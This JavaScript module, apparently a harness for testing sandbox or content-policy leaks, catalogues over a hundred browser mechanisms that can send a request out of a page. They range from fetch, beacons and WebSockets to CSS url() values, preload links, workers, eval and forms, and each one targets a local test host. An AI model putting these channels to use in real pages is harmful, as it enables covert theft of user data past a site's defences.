/**
 * Every way that is known to get a byte out of a page, each to a host of its own name. `to` makes its addresses:
 * `to(way, scheme?)` is `scheme://<way>.<who>:<port>/<way>`. What a way throws or is refused is written down.
 */

const made = (name, attributes = {}, parent = document.body) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  parent.append(element);
  return element;
};
const link = (rel, href, more = {}) => made("link", { rel, href, ...more }, document.head);
const svg = (name, attributes, parent = null) => {
  const element = document.createElementNS("http://www.w3.org/2000/svg", name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  (parent ?? document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"))).append(element);
  return element;
};
const styled = (text) => {
  made("style", {}, document.head).append(text);
  return made("p", { class: "thief" });
};
const blobWorker = (text) => {
  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  return new Promise((resolve, reject) => {
    worker.onerror = (event) => reject(new Error(event.message || "worker"));
    worker.onmessage = ({ data }) => (data === "done" ? resolve("done") : reject(new Error(data)));
  });
};
const inWorker = (act) => blobWorker(`(async () => { ${act} })().then(() => postMessage("done"), (e) => postMessage(String(e)))`);
const form = (method, action, more = {}) => made("form", { method, action, ...more });
const heard = (target, good = "load") =>
  new Promise((resolve, reject) => {
    target.addEventListener(good, () => resolve("done"), { once: true });
    target.addEventListener("error", () => reject(new Error("error")), { once: true });
  });
const stun = (Connection, server) => {
  const connection = new Connection({ iceServers: [server] });
  connection.createDataChannel("x");
  return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
};

/** Those that leave the page standing. */
export const STAY = {
  beacon: (to) => navigator.sendBeacon(to("beacon"), "x") || Promise.reject(new Error("refused")),
  fetch: (to) => fetch(to("fetch")),
  "fetch-keepalive": (to) => fetch(to("fetch-keepalive"), { method: "POST", body: "x", keepalive: true, mode: "no-cors" }),
  "fetch-no-cors": (to) => fetch(to("fetch-no-cors"), { mode: "no-cors" }),
  "fetch-later": (to) => fetchLater(to("fetch-later"), { activateAfter: 0 }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to("xhr"));
    request.send();
    return heard(request);
  },
  "event-source": (to) => heard(new EventSource(to("event-source")), "open"),
  websocket: (to) => heard(new WebSocket(to("websocket", "ws")), "open"),
  "websocket-stream": (to) => new WebSocketStream(to("websocket-stream", "ws")).opened,
  webtransport: (to) => new WebTransport(to("webtransport", "quic")).ready,
  webrtc: (to) => stun(RTCPeerConnection, { urls: to("webrtc", "stun") }),
  "webrtc-turn": (to) => stun(RTCPeerConnection, { urls: to("webrtc-turn", "turn"), username: "x", credential: "x" }),
  img: (to) => heard(made("img", { src: to("img") })),
  "img-object": (to) => heard(Object.assign(new Image(), { src: to("img-object") })),
  srcset: (to) => heard(made("img", { srcset: `${to("srcset")} 1x` })),
  "img-attribution": (to) => made("img", { attributionsrc: to("img-attribution"), src: to("img-attribution") }),
  "css-background": (to) => void styled(`.thief { background: url(${to("css-background")}) }`),
  "css-import": (to) => void styled(`@import "${to("css-import")}";`),
  "css-mask": (to) => void styled(`.thief { mask: url(${to("css-mask")}#m) }`),
  "css-filter": (to) => void styled(`.thief { filter: url(${to("css-filter")}#f) }`),
  "css-cursor": (to) => void styled(`.thief { cursor: url(${to("css-cursor")}), auto }`),
  "css-content": (to) => void styled(`.thief::before { content: url(${to("css-content")}) }`),
  "css-attribute": (to) => void (made("p").style.backgroundImage = `url(${to("css-attribute")})`),
  "css-font": (to) => void styled(`@font-face { font-family: f; src: url(${to("css-font")}) } .thief { font-family: f }`).append("x"),
  "font-face": (to) => new FontFace("g", `url(${to("font-face")})`).load(),
  "css-sheet": (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { border-image: url(${to("css-sheet")}) 1; border-style: solid }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  stylesheet: (to) => heard(link("stylesheet", to("stylesheet"))),
  icon: (to) => void link("icon", to("icon")),
  manifest: (to) => void link("manifest", to("manifest")),
  prefetch: (to) => heard(link("prefetch", to("prefetch"))),
  preload: (to) => heard(link("preload", to("preload"), { as: "image" })),
  "preload-fetch": (to) => heard(link("preload", to("preload-fetch"), { as: "fetch", crossorigin: "" })),
  modulepreload: (to) => heard(link("modulepreload", to("modulepreload"))),
  preconnect: (to) => void link("preconnect", to("preconnect")),
  "dns-prefetch": (to) => {
    made("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }, document.head);
    link("dns-prefetch", to("dns-prefetch"));
  },
  "prerender-link": (to) => void link("prerender", to("prerender-link")),
  dictionary: (to) => void link("compression-dictionary", to("dictionary")),
  speculation: (to) => {
    const rules = { prefetch: [{ source: "list", urls: [to("speculation")], eagerness: "immediate" }] };
    made("script", { type: "speculationrules" }, document.head).append(JSON.stringify(rules));
  },
  audio: (to) => heard(made("audio", { src: to("audio") }), "loadeddata"),
  video: (to) => heard(made("video", { src: to("video") }), "loadeddata"),
  poster: (to) => void made("video", { poster: to("poster") }),
  source: (to) => void made("source", { src: to("source") }, made("video")),
  track: (to) => {
    const track = made("track", { src: to("track"), default: "", kind: "captions" }, made("video", { crossorigin: "anonymous" }));
    track.track.mode = "showing";
    return heard(track);
  },
  object: (to) => void made("object", { data: to("object") }),
  embed: (to) => void made("embed", { src: to("embed") }),
  iframe: (to) => void made("iframe", { src: to("iframe") }),
  "iframe-script": (to) => void made("iframe", { src: `javascript:location="${to("iframe-script")}"` }),
  "srcdoc-img": (to) => void made("iframe", { srcdoc: `<img src="${to("srcdoc-img")}">` }),
  "srcdoc-refresh": (to) => void made("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${to("srcdoc-refresh")}">` }),
  "data-frame": (to) => void made("iframe", { src: `data:text/html,<img src="${to("data-frame")}">` }),
  "blob-frame": (to) => {
    const page = new Blob([`<img src="${to("blob-frame")}">`], { type: "text/html" });
    made("iframe", { src: URL.createObjectURL(page) });
  },
  frameset: (to) => void made("frame", { src: to("frameset") }, made("frameset", {}, document.documentElement)),
  portal: (to) => void made("portal", { src: to("portal") }),
  fencedframe: (to) => (made("fencedframe").config = new FencedFrameConfig(to("fencedframe"))),
  "svg-image": (to) => void svg("image", { href: to("svg-image") }),
  "svg-use": (to) => void svg("use", { href: `${to("svg-use")}#x` }),
  "svg-feimage": (to) => void svg("feImage", { href: to("svg-feimage") }, svg("filter", { id: "thief-filter" })),
  "svg-script": (to) => void svg("script", { href: to("svg-script") }),
  "input-image": (to) => void made("input", { type: "image", src: to("input-image") }),
  background: (to) => void made("table", { background: to("background") }),
  script: (to) => heard(made("script", { src: to("script") })),
  "module-script": (to) => heard(made("script", { type: "module", src: to("module-script") })),
  import: (to) => import(to("import")),
  "import-json": (to) => import(to("import-json"), { with: { type: "json" } }),
  worker: (to) => heard(new Worker(to("worker")), "message"),
  "worker-fetch": (to) => inWorker(`await fetch("${to("worker-fetch")}", { mode: "no-cors" })`),
  "worker-import": (to) => inWorker(`importScripts("${to("worker-import")}")`),
  "worker-websocket": (to) => inWorker(`await new Promise((y, n) => Object.assign(new WebSocket("${to("worker-websocket", "ws")}"), { onopen: y, onerror: n }))`),
  "worker-webtransport": (to) => inWorker(`await new WebTransport("${to("worker-webtransport", "quic")}").ready`),
  "worker-eval": (to) => inWorker(`await eval('fetch("${to("worker-eval")}", { mode: "no-cors" })')`),
  "shared-worker": (to) => {
    const text = `fetch("${to("shared-worker")}", { mode: "no-cors" })`;
    return void new SharedWorker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  },
  "service-worker": (to) => navigator.serviceWorker.register(to("service-worker")),
  worklet: (to) => new AudioContext().audioWorklet.addModule(to("worklet")),
  "paint-worklet": (to) => CSS.paintWorklet.addModule(to("paint-worklet")),
  wasm: (to) => WebAssembly.compileStreaming(fetch(to("wasm"))),
  eval: (to) => (0, eval)(`fetch("${to("eval")}", { mode: "no-cors" })`),
  markup: (to) => void (made("div").innerHTML = `<img src="${to("markup")}">`),
  handler: (to) => void made("img", { src: "data:,", onerror: `fetch("${to("handler")}", { mode: "no-cors" })` }),
  "form-get": (to) => form("get", to("form-get"), { target: "_blank" }).submit(),
  "form-post": (to) => form("post", to("form-post"), { target: "_blank" }).submit(),
  "form-frame": (to) => {
    made("iframe", { name: "thief-frame" });
    form("post", to("form-frame"), { target: "thief-frame" }).submit();
  },
  open: (to) => window.open(to("open")).closed,
  "open-under": (to) => window.open(to("open-under"), "_blank", "noopener,popup"),
  "link-blank": (to) => made("a", { href: to("link-blank"), target: "_blank" }).click(),
  download: (to) => made("a", { href: to("download"), download: "x", target: "_blank" }).click(),
  ping: (to) => made("a", { href: "#x", ping: to("ping"), target: "_blank" }).click(),
  payment: (to) => new PaymentRequest([{ supportedMethods: to("payment") }], { total: { label: "x", amount: { currency: "CNY", value: "1" } } }).canMakePayment(),
  identity: (to) => navigator.credentials.get({ identity: { providers: [{ configURL: to("identity"), clientId: "x" }] } }),
  presentation: (to) => new PresentationRequest(to("presentation")).getAvailability(),
  "report-uri": (to) => {
    const content = `base-uri 'none'; report-uri ${to("report-uri")}`;
    made("meta", { "http-equiv": "Content-Security-Policy", content }, document.head);
    made("base", { href: "/elsewhere/" }, document.head);
  },
};

/** Those that take the page along. */
export const LEAVE = {
  location: (to) => void (location.href = to("location")),
  replace: (to) => location.replace(to("replace")),
  navigation: (to) => void navigation.navigate(to("navigation")).committed.catch(() => null),
  refresh: (to) => void made("meta", { "http-equiv": "refresh", content: `0;url=${to("refresh")}` }, document.head),
  "link-self": (to) => made("a", { href: to("link-self") }).click(),
  "svg-link": (to) => svg("a", { href: to("svg-link") }).dispatchEvent(new MouseEvent("click", { bubbles: true })),
  "form-self": (to) => form("post", to("form-self")).submit(),
};

const named = (error) => `${error?.name ?? "Error"}`;

/** @param {string} who @param {{ tcp: number, udp: number }} ports */
export const addresses = (who, { tcp, udp }) => (way, scheme = "http") => {
  const host = `${way}.${who}.localhost`;
  if (scheme === "stun") return `stun:${host}:${udp}`;
  if (scheme === "turn") return `turn:${host}:${tcp}?transport=tcp`;
  return scheme === "quic" ? `https://${host}:${udp}/${way}` : `${scheme}://${host}:${tcp}/${way}`;
};

/** All that leave the page standing, one after the other; what became of each is told as it is known. */
export function tryAll(who, ports) {
  const to = addresses(who, ports);
  const found = {};
  globalThis.found = found;
  for (const [way, act] of Object.entries(STAY)) {
    try {
      found[way] = "begun";
      const answer = act(to);
      if (answer instanceof Promise) answer.then(() => (found[way] = "done"), (error) => (found[way] = named(error)));
    } catch (error) {
      found[way] = named(error);
    }
  }
  return found;
}

Object.assign(globalThis, { thief: { STAY, LEAVE, addresses, tryAll } });
